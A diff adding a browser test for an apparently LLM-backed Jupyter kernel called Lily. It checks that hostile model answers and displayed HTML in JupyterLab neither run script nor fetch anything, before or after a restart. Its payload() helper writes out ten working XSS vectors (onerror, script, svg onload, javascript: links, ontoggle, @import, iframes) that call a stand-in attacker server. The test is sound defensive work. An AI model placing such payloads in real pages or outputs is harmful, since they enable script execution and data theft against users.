@@ -1,0 +1,207 @@
+"""Hostile output in JupyterLab itself (headless Chromium): a model's answer, HTML a
+sandboxed run displays, and the same answers replayed from the record after a restart
+carry every usual way to run script or fetch from the page. JupyterLab renders the
+outputs of this session's cells without its sanitizer, so what Lily sends is all that
+stands between them and the person's Jupyter server (their files, a kernel outside
+the sandbox). Nothing may run and nothing may be fetched: each payload would set
+`window.__lily_pwned` and call the attacker's server (here on 127.0.0.1), which must
+see no request, live, after Run All from the record, or from a 1 MB answer.
+"""
+
+from __future__ import annotations
+
+import json
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from tests.browser.conftest import KERNEL_START_MS, GuardedPage
+from tests.browser.notebook_page import NotebookPage
+from tests.browser.test_restart import EXECUTED, confirm, menu, run_all, saved
+from tests.conftest import REPO
+from tests.support.jupyter_server import JupyterProcess, start_lab
+from tests.support.openai_server import OpenAIServer, Reply
+
+SHOWN = "Here is the summary you asked for."
+BIG_SHOWN = "A long report follows."
+
+
+class Attacker:
+    """The attacker's web server, on loopback: it records every request it is sent."""
+
+    def __init__(self) -> None:
+        self.hits: list[str] = []
+        hits = self.hits
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, format: str, *args: Any) -> None:
+                pass
+
+            def do_GET(self) -> None:
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.end_headers()
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def payload(evil: str, tag: str) -> str:
+    """Every usual way for Markdown or HTML to run script or fetch: each one, if it
+    worked, marks the page and calls `evil` naming itself."""
+    pwn = "window.__lily_pwned=(window.__lily_pwned||[]).concat(['{0}']);fetch('" + evil + "/{0}')"
+    return "\n".join([
+        f'<img src=x onerror="{pwn.format(tag + "-img-onerror")}">',
+        f"<script>{pwn.format(tag + '-script')}</script>",
+        f'<svg onload="{pwn.format(tag + "-svg-onload")}"><circle r="4"/></svg>',
+        f'<a href="javascript:{pwn.format(tag + "-a-href")}">a link</a>',
+        f'<img src="{evil}/{tag}-remote-img.png">',
+        f"![a chart]({evil}/{tag}-markdown-img.png)",
+        f"[another link](javascript:{pwn.format(tag + '-md-link')})",
+        f'<details open ontoggle="{pwn.format(tag + "-ontoggle")}">more</details>',
+        f"<style>@import url({evil}/{tag}-style.css)</style>",
+        f'<iframe src="{evil}/{tag}-iframe"></iframe>',
+    ])
+
+
+def answers(evil: str) -> dict[str, Reply]:
+    small = f"{SHOWN}\n\n{payload(evil, 'answer')}\n"
+    # About 1 MB: the payload again and again.
+    big = BIG_SHOWN + "\n\n" + "\n\n".join(payload(evil, f"big{n}") for n in range(1_600))
+    assert len(big) > 1_000_000
+    return {"hostile": Reply(text=small, pieces=6, chunk_delay=0.1),
+            "big": Reply(text=big, pieces=40)}
+
+
+CELLS = (
+    ("hostile", "Summarise the notes, please."),
+    ("python", "/python from IPython.display import HTML, display\n"
+               "display(HTML(open('payload.html').read())); print('displayed')"),
+    ("big", "Write the long report."),
+)
+
+
+@pytest.fixture(scope="module")
+def attacker() -> Iterator[Attacker]:
+    evil = Attacker()
+    try:
+        yield evil
+    finally:
+        evil.close()
+
+
+@pytest.fixture(scope="module")
+def model(attacker: Attacker) -> Iterator[OpenAIServer]:
+    replies = answers(attacker.url)
+
+    def reply(body: dict[str, Any]) -> Reply:
+        asked = [m["content"] for m in body["messages"] if m["role"] == "user"][-1]
+        return replies["big" if "long report" in str(asked) else "hostile"]
+
+    with OpenAIServer(default=reply) as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def lab(chromium_ready: None, tmp_path_factory: pytest.TempPathFactory, model: OpenAIServer,
+        attacker: Attacker) -> Iterator[tuple[JupyterProcess, Path]]:
+    base = tmp_path_factory.mktemp("hostile")
+    root = base / "root"
+    root.mkdir()
+    (root / "lily.yaml").write_text("model: openai/loop\nstream: true\nretries: 0\n")
+    (root / "payload.html").write_text(payload(attacker.url, "python"))
+    cells = [{"id": cell_id, "cell_type": "code", "metadata": {}, "source": code,
+              "outputs": [], "execution_count": None} for cell_id, code in CELLS]
+    (root / "hostile.ipynb").write_text(json.dumps({
+        "nbformat": 4, "nbformat_minor": 5, "cells": cells,
+        "metadata": {"kernelspec": {"name": "lily", "display_name": "Lily",
+                                    "language": "lily"}}}))
+    server = start_lab(root, base / "home", base / "jupyterlab.log",
+                       LILY_API_BASE=model.base_url, PYTHONPATH=str(REPO),
+                       OPENAI_API_KEY="sk-hostile-not-a-real-key-0")
+    try:
+        yield server, root
+    finally:
+        server.stop()
+
+
+@pytest.fixture(scope="module")
+def page(browser: Browser, lab: tuple[JupyterProcess, Path],
+         attacker: Attacker) -> Iterator[tuple[Page, list[str]]]:
+    server, _ = lab
+    guarded = GuardedPage(browser, f"{server.url}/lab/tree/hostile.ipynb?token={server.token}")
+    seen: list[str] = []  # every request the page made to the attacker's server
+    guarded.page.on("request", lambda r: seen.append(r.url) if r.url.startswith(
+        attacker.url) else None)
+    try:
+        yield guarded.page, seen
+    finally:
+        guarded.close("hostile-output")
+
+
+def assert_inert(page: Page, attacker: Attacker, seen: list[str]) -> None:
+    assert page.evaluate("() => window.__lily_pwned") is None
+    assert seen == [] and attacker.hits == []
+    dom = page.evaluate("""() => {
+      const out = [...document.querySelectorAll('.jp-OutputArea-output')];
+      const all = out.flatMap(o => [...o.querySelectorAll('*')]);
+      return {
+        handlers: all.filter(e => [...e.attributes].some(a => a.name.startsWith('on')))
+                     .map(e => e.outerHTML.slice(0, 80)),
+        scripts: all.filter(e => ['SCRIPT', 'IFRAME', 'STYLE', 'svg'].includes(e.tagName))
+                    .map(e => e.tagName),
+        js_links: all.filter(e => (e.getAttribute('href') || '').trim().toLowerCase()
+                                    .startsWith('javascript:')).length,
+        remote_images: all.filter(e => e.tagName === 'IMG' &&
+                                  !(e.getAttribute('src') || '').startsWith('data:')
+                                  && e.getAttribute('src')).map(e => e.getAttribute('src')),
+      };
+    }""")
+    assert dom == {"handlers": [], "scripts": [], "js_links": 0, "remote_images": []}
+
+
+def test_hostile_answers_and_displays_run_nothing_and_fetch_nothing(
+        page: tuple[Page, list[str]], lab: tuple[JupyterProcess, Path],
+        model: OpenAIServer, attacker: Attacker) -> None:
+    tab, seen = page
+    _, root = lab
+    notebook = NotebookPage(tab)
+    notebook.wait_idle(KERNEL_START_MS)
+    run_all(tab, notebook)
+    for n in range(len(CELLS)):
+        expect(notebook.cells.nth(n).locator(".jp-InputPrompt")).to_have_text(
+            EXECUTED, timeout=KERNEL_START_MS)
+    notebook.wait_idle()
+    first, python, big = (notebook.outputs(notebook.cells.nth(n)) for n in range(3))
+    expect(first.last).to_contain_text(SHOWN)
+    expect(first.last).to_contain_text("<img src=x onerror=")  # shown as the text it is
+    expect(first.last.locator("a", has_text="[image: a chart]")).to_have_count(1)
+    expect(python.filter(has_text="displayed")).to_have_count(1)  # the run did display
+    expect(big.last).to_contain_text(BIG_SHOWN)
+    assert len(model.requests) == 2
+    assert_inert(tab, attacker, seen)
+
+    tab.keyboard.press("ControlOrMeta+s")
+    saved(root / "hostile.ipynb", SHOWN)
+    menu(tab, "Kernel", "Restart Kernel and Run All Cells…")
+    confirm(tab)
+    for n in (0, 2):
+        expect(notebook.outputs(notebook.cells.nth(n)).first).to_contain_text(
+            "Replayed from the record", timeout=KERNEL_START_MS)
+    notebook.wait_idle(KERNEL_START_MS)
+    expect(first.last).to_contain_text(SHOWN)
+    expect(python.filter(has_text="displayed")).to_have_count(1)
+    expect(big.last).to_contain_text(BIG_SHOWN)
+    assert len(model.requests) == 2  # the answers came from the record
+    assert_inert(tab, attacker, seen)
